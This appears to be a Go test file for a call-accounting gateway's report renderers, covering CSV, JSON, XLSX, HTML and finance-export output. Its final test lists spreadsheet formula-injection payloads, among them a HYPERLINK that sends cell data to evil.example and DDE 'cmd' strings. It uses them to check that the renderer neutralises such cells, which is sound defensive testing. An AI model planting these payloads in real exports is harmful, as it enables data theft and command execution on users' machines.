package report_test

// The tests of the formats render writes, on tables this package computes
// from the fixture of its own tests (month, through MonthTable): they live
// beside that fixture rather than in package render, which cannot reach it.

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"callgate/gateway"
	"callgate/gateway/report"
	"callgate/gateway/report/render"
)

// TestFormats writes one report in every format and reads each back.
func TestFormats(t *testing.T) {
	tab := report.MonthTable(t, "rooms")
	var b bytes.Buffer
	if err := render.Write(&b, tab, "csv"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || strings.Join(recs[0], ",") != "room,calls,minutes,carrier_cost,guest_charge" || strings.Join(recs[1], ",") != "(none),4,135.00,16.00,90.00" {
		t.Errorf("csv: %v %v", recs, err)
	}
	b.Reset()
	if err := render.Write(&b, tab, "json"); err != nil {
		t.Fatal(err)
	}
	var rows []map[string]any
	if err := json.Unmarshal(b.Bytes(), &rows); err != nil || len(rows) != 4 || rows[0]["room"] != "(none)" || rows[0]["guest_charge"] != 90.0 || rows[0]["calls"] != 4.0 {
		t.Errorf("json: %v %v\n%s", rows, err, b.String())
	}
	bh := report.MonthTable(t, "busy-hour")
	b.Reset()
	render.Write(&b, bh, "json")
	if !strings.Contains(b.String(), `{"hour":"2026-11-10T14:00","calls":4,"erlangs":1.250,"ccs":45.00}`) {
		t.Errorf("busy-hour json row not as the spec shows it")
	}
	b.Reset()
	if err := render.Write(&b, tab, "table"); err != nil || !strings.Contains(b.String(), "guest_charge") || !strings.Contains(b.String(), "90.00") {
		t.Errorf("table: %v\n%s", err, b.String())
	}
	if err := render.Write(&b, tab, "pdf"); err == nil {
		t.Error("pdf accepted")
	}
}

func TestXLSXReadBack(t *testing.T) {
	tab := report.MonthTable(t, "busy-days")
	var b bytes.Buffer
	if err := render.Write(&b, tab, "xlsx"); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if got := x.GetSheetName(0); got != "busy-days" {
		t.Errorf("sheet %q", got)
	}
	head, _ := x.GetCellValue("busy-days", "A1")
	typ, _ := x.GetCellType("busy-days", "D11")
	v, _ := x.GetCellValue("busy-days", "D11", excelize.Options{RawCellValue: true})
	if head != "day" || (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) || v != "1.25" {
		t.Errorf("A1 %q, D11 %v %q (want the 10th's 1.25 erlangs as a number)", head, typ, v)
	}
	// Dates are date cells: a serial number shown with a date format.
	raw, _ := x.GetCellValue("busy-days", "A11", excelize.Options{RawCellValue: true})
	shown, _ := x.GetCellValue("busy-days", "A11")
	if raw != "46336" || shown != "2026-11-10" {
		t.Errorf("A11 raw %q shown %q", raw, shown)
	}
	rt := report.MonthTable(t, "rooms")
	b.Reset()
	render.Write(&b, rt, "xlsx")
	x2, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer x2.Close()
	money, _ := x2.GetCellValue("rooms", "E2", excelize.Options{RawCellValue: true})
	shown, _ = x2.GetCellValue("rooms", "E2")
	if money != "90" || shown != "90.00" {
		t.Errorf("money raw %q shown %q", money, shown)
	}
}

func TestHTML(t *testing.T) {
	tab := report.MonthTable(t, "busy-hour")
	var b bytes.Buffer
	if err := render.Write(&b, tab, "html"); err != nil {
		t.Fatal(err)
	}
	page := b.String()
	for _, w := range []string{"<!DOCTYPE html>", "<svg", "@media print", "<td>2026-11-10T14:00</td>", "Busiest hour of the period"} {
		if !strings.Contains(page, w) {
			t.Errorf("page lacks %q", w)
		}
	}
	if n := strings.Count(page, `<rect class="bar"`); n != 30*24 {
		t.Errorf("%d bars, want one per hour", n)
	}
	// The busiest hour's bar is the full height of the scale (1.25 → 2).
	if !strings.Contains(page, "<title>2026-11-10T14:00: 1.250</title>") {
		t.Error("no bar for the busy hour")
	}
	for _, bad := range []string{"<script", "http://", "https://"} {
		if strings.Contains(strings.ReplaceAll(page, `xmlns="http://www.w3.org/2000/svg"`, ""), bad) {
			t.Errorf("page holds %q: not standalone", bad)
		}
	}
	b.Reset()
	cls := report.MonthTable(t, "classes")
	render.Write(&b, cls, "html")
	if !strings.Contains(b.String(), "Guest charge by class") || strings.Count(b.String(), `<rect class="bar"`) != len(cls.Rows) {
		t.Errorf("classes chart missing")
	}
}

// The finance export's columns are an interface: this list changes only by
// adding at the end.
const exportHeader = "entry_id,start,room,reservation,extension,dialed,class,destination,duration_s,billable_s,currency," +
	"carrier_cost,markup,surcharge,tax,total,posting,state,tariff_version"

func TestExport(t *testing.T) {
	start := time.Date(2026, 11, 3, 10, 15, 30, 0, time.UTC)
	es := []gateway.Entry{
		{ID: 7, State: gateway.StatePosted, Room: "101", Reservation: "R55", Posting: 42,
			Call: &gateway.Call{Extension: "101", Dialed: "912125550100", Start: start, DurationS: 125, Direction: gateway.Outgoing},
			Charge: &gateway.Charge{Class: "national", Destination: "USA", BillableS: 180, Chargeable: true, CarrierMinor: 30,
				MarkupMinor: 100, SurchargeMinor: 50, TaxMinor: 18, TotalMinor: 198, Currency: "USD", TariffVersion: "base"}},
		{ID: 8, State: gateway.StateNotChargeable, Call: &gateway.Call{Extension: "101", Start: start, Direction: gateway.Incoming},
			Charge: &gateway.Charge{Class: "incoming", Currency: "USD"}},
		{ID: 9, State: gateway.StateImported, Call: &gateway.Call{Extension: "3105", Dialed: "0", Start: start, Direction: gateway.Outgoing, DurationS: 60},
			Charge: &gateway.Charge{Class: "local", Chargeable: true, CarrierMinor: 5, TotalMinor: 5, Currency: "JPY"}},
	}
	tab, err := report.Export(es, report.Options{From: start, To: start, Rooms: gateway.RoomMap{Map: map[string]string{"3105": "105"}},
		MinorDigits: func(c string) (int, bool) { return map[string]int{"USD": 2, "JPY": 0}[c], true }})
	if err != nil {
		t.Fatal(err)
	}
	var b bytes.Buffer
	if err := render.Write(&b, tab, "csv"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{exportHeader,
		"7,2026-11-03T10:15:30,101,R55,101,912125550100,national,USA,125,180,USD,0.30,1.00,0.50,0.18,1.98,42,posted,base",
		"9,2026-11-03T10:15:30,105,,3105,0,local,,60,0,JPY,5,0,0,0,5,,imported,"}
	if len(recs) != len(want) {
		t.Fatalf("%d lines: %v", len(recs), recs)
	}
	for i := range want {
		if got := strings.Join(recs[i], ","); got != want[i] {
			t.Errorf("line %d:\n got %s\nwant %s", i, got, want[i])
		}
	}
}

// TestCSVFormulaCells: a report or export cell of text from a call record
// (dialed, account code, trunk) never reaches a spreadsheet as a formula;
// negative amounts stay numbers (issue #14, D1).
func TestCSVFormulaCells(t *testing.T) {
	payloads := []string{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `+cmd|' /C calc'!A0`, `@SUM(1+1)*cmd`, `=1+1`, `-2+3+cmd|' /C calc'!A0`}
	tab := &report.Table{Name: "t", Title: "T", Columns: []report.Column{{Name: "text"}, {Name: "amount", Kind: report.Money}, {Name: "n", Kind: report.Int}}}
	for _, p := range payloads {
		tab.Rows = append(tab.Rows, []any{p, report.Amount{Minor: -1250, Digits: 2}, int64(-3)})
	}
	var b bytes.Buffer
	if err := render.Write(&b, tab, "csv"); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil || len(recs) != len(payloads)+1 {
		t.Fatalf("%v %v", recs, err)
	}
	for i, p := range payloads {
		r := recs[i+1]
		if r[0] != "'"+p || r[1] != "-12.50" || r[2] != "-3" {
			t.Errorf("row %d: %q, want %q, -12.50, -3", i, r, "'"+p)
		}
	}
}
